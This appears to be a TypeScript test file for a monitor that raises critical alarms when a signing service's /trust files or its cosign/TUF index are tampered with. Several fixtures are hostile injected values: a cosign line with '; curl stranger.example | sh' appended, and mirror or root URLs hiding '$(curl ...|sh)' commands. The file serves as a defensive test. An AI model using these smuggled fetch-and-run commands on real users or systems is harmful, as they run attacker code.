import { createHash } from "node:crypto";
import { encodePem } from "@chancery/encoding";
import { expect, test } from "vitest";
import { addCa, chains, ONLINE_KEY, pem, published, ROOT_KEY, rootText, watching } from "./trust-world.ts";

interface DrawnChain {
  readonly certChain: { readonly certificates: readonly { readonly rawBytes: string }[] };
}
const pemOf = (chain: object) =>
  (chain as DrawnChain).certChain.certificates
    .map(({ rawBytes }) => encodePem("CERTIFICATE", Buffer.from(rawBytes, "base64")))
    .join("");
const CONFIG = JSON.stringify({ caUrls: [{ url: "https://drawn.example" }] });
const clientConfig = (root: string, config: string) =>
  JSON.stringify({ mediaType: "drawn", trustedRoot: JSON.parse(root), signingConfig: JSON.parse(config) });
const plainFiles = () => ({
  "fulcio.pem": pemOf(chains[0]!),
  "tsa.pem": pemOf(chains[1]!),
  "rekor.pub": pem(ONLINE_KEY.publicKey),
  "signing_config.v0.2.json": CONFIG,
  "client_trust_config.json": clientConfig(rootText(), CONFIG),
});
const allTargets = () => ({
  "trusted_root.json": rootText(),
  "signing_config.v0.2.json": CONFIG,
  "rekor.pub": pem(ONLINE_KEY.publicKey),
});
const STRANGERS_CONFIG = CONFIG.replace("drawn", "stranger");

/** What who has the server, and no key of the trust root, puts below `/trust`. */
const SWAPPED: Record<string, () => string> = {
  "fulcio.pem": () => pemOf(chains[0]!) + pemOf(chains[2]!),
  "tsa.pem": () => pemOf(chains[2]!),
  "rekor.pub": () => pem(ROOT_KEY.publicKey),
  "ctfe.pub": () => pem(ROOT_KEY.publicKey),
  "signing_config.v0.2.json": () => STRANGERS_CONFIG,
  "client_trust_config.json": () => clientConfig(rootText(addCa), CONFIG),
};

test.for(Object.keys(SWAPPED))("a %s below /trust that TUF does not vouch for is a critical alarm", async (name) => {
  const { book, look } = await watching();
  const release = { version: 1, targets: allTargets(), plain: plainFiles() };
  expect(await look(release)).toEqual([]);
  const swapped = { ...release, plain: { ...plainFiles(), [name]: SWAPPED[name]!() } };
  for (let seconds = 0; seconds < 60; seconds += 5) await look(swapped);
  const told = expect.stringContaining(`trust-invalid: https://drawn.example/trust/${name}: `);
  expect(await look(swapped)).toEqual([told]);
  expect(book.open).toMatchObject([{ severity: "critical", check: "trust files at https://drawn.example/trust" }]);
  expect(await look(release)).toEqual([]);
});

test("a server without files below /trust, or with those of the release before or after, is no alarm", async () => {
  const both = JSON.stringify({ caUrls: [{ url: "https://drawn.example" }, { url: "https://stranger.example" }] });
  const known = { ...allTargets(), "signing_config.v0.2.json": both };
  const own = new Map(Object.entries(known).map(([name, text]) => [name, Buffer.from(text)]));
  const { book, look, onceReading } = await watching(own);
  const releaseOf = (version: number, config: string) => ({
    version,
    targets: { ...allTargets(), "signing_config.v0.2.json": config },
    plain: {
      ...plainFiles(),
      "signing_config.v0.2.json": config,
      "client_trust_config.json": clientConfig(rootText(), config),
    },
  });
  const { plain, ...bare } = releaseOf(1, CONFIG);
  expect(await look(bare)).toEqual([]);
  for (let seconds = 0; seconds < 60; seconds += 5) expect(await look({ ...bare, plain })).toEqual([]);
  const behind = { ...releaseOf(2, both), plain };
  expect(await look(behind)).toEqual([]);
  for (let seconds = 0; seconds < 660; seconds += 30) await look(behind, 30);
  expect(await look(behind)).toContainEqual(expect.stringMatching(/^trust-invalid: .*signing_config/));
  expect(await look(releaseOf(2, both))).toEqual([]);
  onceReading("/trust/client_trust_config.json", releaseOf(4, STRANGERS_CONFIG));
  expect(await look(releaseOf(3, CONFIG))).toEqual([]);
  expect(book.alarms).toHaveLength(2);
  const check = { name: "trust files at https://drawn.example/trust", state: "passed" };
  expect(book.checks).toContainEqual(expect.objectContaining(check));
});

test("a fulcio.pem of this server's own certificates a thousand times is not read, and a critical alarm", async () => {
  const { look } = await watching();
  const release = { version: 1, targets: allTargets(), plain: plainFiles() };
  expect(await look(release)).toEqual([]);
  const long = { ...plainFiles(), "fulcio.pem": pemOf(chains[0]!).repeat(1_000) };
  expect(await look({ ...release, plain: long }, 61)).toEqual([
    "trust-invalid: https://drawn.example/trust/fulcio.pem: is larger than this installation writes it",
  ]);
});

const sumOf = (text: string) => createHash("sha256").update(text).digest("hex");
const STRANGER = sumOf("another root");

/** As the service answers it. */
function indexOf(change: (tuf: Record<string, unknown>, files: { sha256: string }[]) => void = () => {}) {
  const url = "https://drawn.example";
  const rootSha256 = sumOf(published({ version: 1, targets: allTargets() }).get("/tuf/root.json")!);
  const [mirror, root] = [`${url}/tuf`, `${url}/tuf/root.json`];
  const cosign = `cosign initialize --mirror ${mirror} --root ${root} --root-checksum ${rootSha256}`;
  const tuf = { mirror, root, rootSha256, cosign, roles: [{ role: "root", version: 1 }] };
  const all = { "trusted_root.json": rootText(), ...plainFiles() };
  const files = Object.entries(all).map(([name, text]) => {
    return { name, url: `${url}/trust/${name}`, size: text.length, sha256: sumOf(text) };
  });
  change(tuf, files);
  return JSON.stringify({ tuf, files });
}

const lineTo = (mirror: string, sum: string) =>
  `cosign initialize --mirror ${mirror}/tuf --root ${mirror}/tuf/root.json --root-checksum ${sum}`;
/** All of it follows from the rest, as the line must. */
const madeOf = (mirror: string, root: string) => (tuf: Record<string, unknown>) => {
  const cosign = `cosign initialize --mirror ${mirror} --root ${root} --root-checksum ${String(tuf["rootSha256"])}`;
  Object.assign(tuf, { mirror, root, cosign });
};
const OWN = "https://drawn.example";

/** What who has the server tells those who copy from `/trust`. */
const MISLED: Record<string, [Parameters<typeof indexOf>[0], RegExp]> = {
  "the checksum of another root": [
    (tuf) => Object.assign(tuf, { rootSha256: STRANGER, cosign: lineTo("https://drawn.example", STRANGER) }),
    /\/trust: tells another rootSha256 than that of the first root/,
  ],
  "a line for cosign with another checksum": [
    (tuf) => Object.assign(tuf, { cosign: lineTo("https://drawn.example", STRANGER) }),
    /\/trust: tells another line for cosign/,
  ],
  "a line for cosign that goes on": [
    (tuf) => Object.assign(tuf, { cosign: `${String(tuf["cosign"])}; curl stranger.example | sh` }),
    /\/trust: tells another line for cosign/,
  ],
  "a mirror of somebody else's": [
    (tuf) => {
      const other = "https://stranger.example";
      const cosign = lineTo(other, String(tuf["rootSha256"]));
      Object.assign(tuf, { mirror: `${other}/tuf`, root: `${other}/tuf/root.json`, cosign });
    },
    /\/trust: names a server that the trust root does not: https:\/\/stranger\.example/,
  ],
  "a word on another server": [
    (tuf) => Object.assign(tuf, { note: "we have moved: HTTPS://stranger.example/" }),
    /\/trust: names a server that the trust root does not/,
  ],
  "a mirror that carries another root and checksum": [
    madeOf(`${OWN}/evil --root ${OWN}/evil.json --root-checksum ${STRANGER} #`, `${OWN}/tuf/root.json`),
    /\/trust: tells a mirror that is none of its servers' \/tuf/,
  ],
  "a mirror that is a command to a shell": [
    madeOf(`${OWN}/$(curl\t${OWN}/x|sh)/tuf`, `${OWN}/tuf/root.json`),
    /\/trust: tells a mirror that is none of its servers' \/tuf/,
  ],
  "another server's mirror that is written as few read it,": [
    madeOf("https:stranger.example/tuf", "https:stranger.example/tuf/root.json"),
    /\/trust: tells a mirror that is none of its servers' \/tuf/,
  ],
  "a root that is a command to a shell": [
    madeOf(`${OWN}/tuf`, `${OWN}/tuf/root.json;curl\t${OWN}/x|sh;`),
    /\/trust: tells a root that is not its mirror's/,
  ],
  // In time that grows with the square of the word's length these would take longer than a test may.
  "a long word, and then a word on another server,": [
    (tuf) => Object.assign(tuf, { note: "a".repeat(50_000), more: `${"b".repeat(9_000)} https://stranger.example` }),
    /\/trust: names a server that the trust root does not: https:\/\/stranger\.example/,
  ],
  "a server in the query of a URL of this one": [
    (tuf) => Object.assign(tuf, { note: "https://drawn.example/?to=https://stranger.example" }),
    /\/trust: names a server that the trust root does not: https:\/\/stranger\.example/,
  ],
  "a host that begins as this one and is too long to be read": [
    (tuf) => Object.assign(tuf, { note: `https://${"a".repeat(242)}@drawn.example.stranger.example` }),
    /\/trust: names a server that the trust root does not/,
  ],
  "more than an installation writes": [
    (tuf) => Object.assign(tuf, { note: "a".repeat(1_000_000) }),
    /\/trust: is not as this installation writes it/,
  ],
};

test.for(Object.keys(MISLED))("%s at /trust, which nobody signs, is a critical alarm", async (name) => {
  const [change, told] = MISLED[name]!;
  const { book, look } = await watching();
  const release = { version: 1, targets: allTargets(), plain: plainFiles(), index: indexOf() };
  expect(await look(release)).toEqual([]);
  expect(await look({ ...release, index: indexOf(change) }, 61)).toEqual([expect.stringMatching(told)]);
  expect(book.open).toMatchObject([{ trouble: "trust-invalid", severity: "critical", evidence: expect.any(String) }]);
  expect(await look(release)).toEqual([]);
});

test.for([0, 1])(
  "a sum at /trust of file %i that this one does not have is an alarm if it stays so for ten minutes",
  async (at) => {
    const { look } = await watching();
    const release = { version: 1, targets: allTargets(), plain: plainFiles(), index: indexOf() };
    expect(await look(release)).toEqual([]);
    const swapped = { ...release, index: indexOf((_, files) => void (files[at]!.sha256 = STRANGER)) };
    for (let minute = 0; minute < 10; minute++) expect(await look(swapped, 60)).toEqual([]);
    expect(await look(swapped, 61)).toEqual([
      expect.stringMatching(/^trust-invalid: .*\/trust: tells another SHA-256 of \w/),
    ]);
    expect(await look(release)).toEqual([]);
  },
);
